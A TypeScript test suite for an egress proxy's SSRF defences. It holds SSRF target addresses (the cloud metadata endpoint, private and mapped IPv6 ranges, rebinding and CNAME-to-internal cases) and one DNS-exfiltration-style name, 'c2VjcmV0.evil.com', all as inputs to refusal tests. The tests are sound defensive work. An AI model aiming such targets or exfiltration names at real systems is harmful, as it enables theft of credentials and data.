/** Where an allowed name leads: every answer is judged, and only a judged one is dialled. */
import { createSocket } from 'node:dgram'
import { describe, expect, test } from 'vitest'
import { createOwnAddresses } from '../../../../api/gateway/egress/dial.ts'
import { createResolve } from '../../../../api/gateway/egress/resolve.ts'
import { keptForOneTest } from '../../../support/kept.ts'
import { httpUpstream, rawUpstream, type Upstream } from './world/upstream.ts'
import { createWorld, headEnds, PUBLIC, readUntil, rule, type World } from './world/world.ts'

const keep = keptForOneTest()

const CONNECT = 'CONNECT example.com:443 HTTP/1.1\r\nHost: example.com:443\r\n\r\n'
const GET = 'GET http://example.com/ HTTP/1.1\r\nHost: example.com\r\nConnection: close\r\n\r\n'

async function leadingTo(
  answers: string[],
  { addresses = [], own = [] }: { addresses?: string[]; own?: string[] } = {},
) {
  const upstream: Upstream = keep(await rawUpstream())
  const rules = [
    rule({ host: 'example.com', addresses }),
    rule({ host: 'example.com', protocol: 'http', addresses, id: 'test/http' }),
  ]
  const world: World = keep(
    await createWorld({ rules, answers: { 'example.com': [answers] }, network: { '*': upstream.port }, own }),
  )
  return { upstream, world }
}

describe.each([
  ['CONNECT', CONNECT],
  ['absolute-form', GET],
])('%s to an allowed name is refused when it leads to', (_how, bytes) => {
  test.each<[string, string[], string, string]>([
    ['I02 the metadata service', ['169.254.169.254'], 'address-metadata', '169.254.169.254'],
    ['I02 the metadata service over IPv6', ['fd00:ec2::254'], 'address-metadata', 'fd00:ec2::254'],
    ['I02 the metadata service in IPv6', ['::ffff:169.254.169.254'], 'address-metadata', '::ffff:169.254.169.254'],
    ['I04 10/8', ['10.0.0.1'], 'address-private', '10.0.0.1'],
    ['I04 172.16/12', ['172.31.255.255'], 'address-private', '172.31.255.255'],
    ['I04 192.168/16', ['192.168.1.1'], 'address-private', '192.168.1.1'],
    ['I04 CGNAT', ['100.64.0.1'], 'address-cgnat', '100.64.0.1'],
    ['I04 ULA', ['fc00::1'], 'address-ula', 'fc00::1'],
    ['I04 link-local with a zone', ['fe80::1%eth0'], 'address-link-local', 'fe80::1%eth0'],
    ['I05 NAT64', ['64:ff9b::a9fe:a9fe'], 'address-metadata', '64:ff9b::a9fe:a9fe'],
    ['I05 6to4', ['2002:a00:1::1'], 'address-private', '2002:a00:1::1'],
    [
      'I05 Teredo',
      ['2001:0:4136:e378:8000:63bf:3fff:fdd2'],
      'address-reserved',
      '2001:0:4136:e378:8000:63bf:3fff:fdd2',
    ],
    ['I05 IPv4-mapped', ['::ffff:7f00:1'], 'address-loopback', '::ffff:7f00:1'],
    ['I07 a public and a loopback address', [PUBLIC, '127.0.0.1'], 'address-loopback', '127.0.0.1'],
    [
      'I07 many, the last one private',
      [PUBLIC, '8.8.8.8', '2606:4700::1111', '10.0.0.5'],
      'address-private',
      '10.0.0.5',
    ],
    ['I10 this machine', ['203.0.113.9'], 'self-connection', '203.0.113.9'],
    ['I10 this machine, IPv4 in IPv6', ['::ffff:203.0.113.9'], 'self-connection', '::ffff:203.0.113.9'],
    ['loopback', ['127.0.0.1'], 'address-loopback', '127.0.0.1'],
    ['nowhere', ['0.0.0.0'], 'address-unspecified', '0.0.0.0'],
    ['everybody', ['255.255.255.255'], 'address-broadcast', '255.255.255.255'],
    ['multicast', ['239.1.1.1'], 'address-multicast', '239.1.1.1'],
    ['no address at all', ['rubbish'], 'address-invalid', 'rubbish'],
  ])('%s', async (_what, answers, reason, address) => {
    const { upstream, world } = await leadingTo(answers, { own: ['203.0.113.9'] })
    expect(await world.raw(bytes)).toMatch(new RegExp(`^HTTP/1.1 403 [\\s\\S]*x-backlot-reason: ${reason}\r\n`, 'i'))
    expect(world.denials()).toMatchObject([
      { reason, correlation: world.events[0]?.correlation, detail: { address, host: 'example.com' } },
    ])
    // The intent came before the look-up, the refusal closed it, and nobody was dialled.
    expect(world.order).toEqual(['audit:egress.request:allow', 'resolve:example.com', 'audit:egress.request:deny'])
    expect(upstream.connections()).toBe(0)
  })
})

test.each<[string, string[], string[], boolean]>([
  ['a private network', ['10.1.2.3'], ['10.0.0.0/8'], true],
  ['a private network and a public address', ['10.1.2.3', PUBLIC], ['10.0.0.0/8'], true],
  ['another private network', ['10.1.2.3'], ['10.2.0.0/16'], false],
  ['this machine', ['10.9.9.9'], ['10.0.0.0/8'], false],
  ['loopback', ['127.0.0.1'], ['127.0.0.0/8'], false],
  ['the metadata service', ['169.254.169.254'], ['169.254.0.0/16'], false],
])('a rule that names networks permits %s (%j in %j): %s', async (_what, answers, addresses, allowed) => {
  const { world } = await leadingTo(answers, { addresses, own: ['10.9.9.9'] })
  const client = world.connect()
  client.write(CONNECT)
  expect(await readUntil(client, headEnds)).toMatch(allowed ? /^HTTP\/1.1 200/ : /^HTTP\/1.1 403/)
  client.destroy()
  await world.until((events) => events.length === 2)
})

test('I08 the address that was judged is the one that is dialled, though the next answer would be another', async () => {
  const upstream = keep(await rawUpstream())
  const world = keep(
    await createWorld({
      rules: [rule({ host: 'example.com' })],
      answers: { 'example.com': [[PUBLIC], ['10.0.0.1']] },
      network: { [`${PUBLIC}:443`]: upstream.port },
    }),
  )
  const client = world.connect()
  client.write(CONNECT)
  await readUntil(client, headEnds)
  expect(world.order).toEqual(['audit:egress.request:allow', 'resolve:example.com', `dial:${PUBLIC}:443`])
  client.destroy()
  // The next request asks again, and is judged by what it gets.
  expect(await world.raw(CONNECT)).toContain('address-private')
})

test('I11 a redirect is passed, and following it is judged by itself', async () => {
  const upstream = keep(
    await httpUpstream((_request, response) => response.writeHead(302, { location: 'http://169.254.169.254/' }).end()),
  )
  const world = keep(
    await createWorld({
      rules: [rule({ host: 'example.com', protocol: 'http' })],
      answers: { 'example.com': [[PUBLIC]] },
      network: { [`${PUBLIC}:80`]: upstream.port },
    }),
  )
  expect(await world.raw(GET)).toMatch(/^HTTP\/1.1 302 [\s\S]*location: http:\/\/169.254.169.254\//)
  expect(await world.raw('GET http://169.254.169.254/ HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n')).toContain(
    'host-ip-literal',
  )
})

test('the next address is tried when the first does not answer', async () => {
  const upstream = keep(await rawUpstream())
  const world = keep(
    await createWorld({
      rules: [rule({ host: 'example.com' })],
      answers: { 'example.com': [['8.8.8.8', PUBLIC]] },
      network: { [`${PUBLIC}:443`]: upstream.port },
    }),
  )
  const client = world.connect()
  client.write(CONNECT)
  expect(await readUntil(client, headEnds)).toMatch(/^HTTP\/1.1 200/)
  expect(world.order.slice(2)).toEqual(['dial:8.8.8.8:443', `dial:${PUBLIC}:443`])
  client.destroy()
})

test.each<[string, string[], string, number]>([
  ['nobody listens', [PUBLIC], 'upstream-unreachable', 502],
  ['the name does not exist', [], 'dns-failed', 502],
])('when %s, the answer says so and the intent is closed', async (_what, answers, reason, status) => {
  const world = keep(
    await createWorld({
      rules: [rule({ host: 'example.com' })],
      answers: answers.length ? { 'example.com': [answers] } : {},
    }),
  )
  expect(await world.raw(CONNECT)).toMatch(new RegExp(`^HTTP/1.1 ${status} Failed \\(${reason}\\)`))
  await world.until((events) => events.length === 2)
  expect(world.ends()).toMatchObject([{ detail: { outcome: 'error', status, bytesOut: 0, bytesIn: 0 } }])
})

test('this machine’s own addresses are known', () => {
  expect(createOwnAddresses()().has('127.0.0.1')).toBe(true)
})

describe('a DNS server of its own', () => {
  const TYPES = { A: 1, CNAME: 5, AAAA: 28 }
  const name = (host: string) =>
    Buffer.concat([
      ...host.split('.').map((label) => Buffer.concat([Buffer.from([label.length]), Buffer.from(label)])),
      Buffer.from([0]),
    ])
  const answer = (owner: string, type: number, data: Uint8Array) => {
    const fixed = Buffer.from([0, type, 0, 1, 0, 0, 0, 0, 0, data.length])
    return Buffer.concat([name(owner), fixed, data])
  }

  /** Answers over UDP with these records, whatever the name. Null: silence. */
  async function dns(recordsFor: (type: number) => Buffer[] | null) {
    const socket = createSocket('udp4')
    const asked: string[] = []
    socket.on('message', (query, from) => {
      const labels: string[] = []
      let at = 12
      for (let length = query[at] ?? 0; length > 0; length = query[at] ?? 0) {
        labels.push(query.subarray(at + 1, at + 1 + length).toString())
        at += 1 + length
      }
      asked.push(labels.join('.'))
      const records = recordsFor(query[at + 2] ?? 0)
      if (!records) return
      const head = Buffer.from([query[0] ?? 0, query[1] ?? 0, 0x81, 0x80, 0, 1, 0, records.length, 0, 0, 0, 0])
      socket.send(Buffer.concat([head, query.subarray(12, at + 5), ...records]), from.port, from.address)
    })
    await new Promise<void>((done) => socket.bind(0, '127.0.0.1', done))
    keep({ close: () => new Promise((done) => socket.close(() => done())) })
    return { server: `127.0.0.1:${socket.address().port}`, asked }
  }

  async function worldWith(server: string) {
    const upstream = keep(await rawUpstream())
    const world = keep(
      await createWorld({
        rules: [rule({ host: 'example.com' })],
        network: { '*': upstream.port },
        resolve: createResolve(server, 900),
      }),
    )
    return { upstream, world }
  }

  test('both families are asked for', async () => {
    const { server } = await dns((type) =>
      type === TYPES.A
        ? [answer('example.com', TYPES.A, Buffer.from([93, 184, 216, 34]))]
        : [answer('example.com', TYPES.AAAA, Buffer.from('26064700000000000000000000001111', 'hex'))],
    )
    expect((await createResolve(server)('example.com')).sort()).toEqual(['2606:4700::1111', PUBLIC])
  })

  test('I09 an alias of an inner name is judged by where it leads', async () => {
    const { server } = await dns((type) =>
      type === TYPES.A
        ? [
            answer('example.com', TYPES.CNAME, name('db.internal')),
            answer('db.internal', TYPES.A, Buffer.from([10, 0, 0, 5])),
          ]
        : [],
    )
    const { upstream, world } = await worldWith(server)
    expect(await world.raw(CONNECT)).toContain('(address-private)')
    expect(world.denials()).toMatchObject([{ reason: 'address-private', detail: { address: '10.0.0.5' } }])
    expect(upstream.connections()).toBe(0)
  })

  test('I07 a bad address of the other family is enough', async () => {
    const { server } = await dns((type) =>
      type === TYPES.A
        ? [answer('example.com', TYPES.A, Buffer.from([93, 184, 216, 34]))]
        : [answer('example.com', TYPES.AAAA, Buffer.from('00000000000000000000000000000001', 'hex'))],
    )
    const { world } = await worldWith(server)
    expect(await world.raw(CONNECT)).toContain('(address-loopback)')
  })

  test('a silent server is a 504, in time', async () => {
    const { server } = await dns(() => null)
    const { world } = await worldWith(server)
    expect(await world.raw(CONNECT)).toMatch(/^HTTP\/1.1 504 Failed \(dns-timeout\)/)
  })

  test('D02 a name that is refused is never asked for', async () => {
    const { server, asked } = await dns(() => [])
    const { world } = await worldWith(server)
    expect(await world.raw('CONNECT c2VjcmV0.evil.com:443 HTTP/1.1\r\nHost: x\r\n\r\n')).toContain('no-rule')
    expect(asked).toEqual([])
  })
})
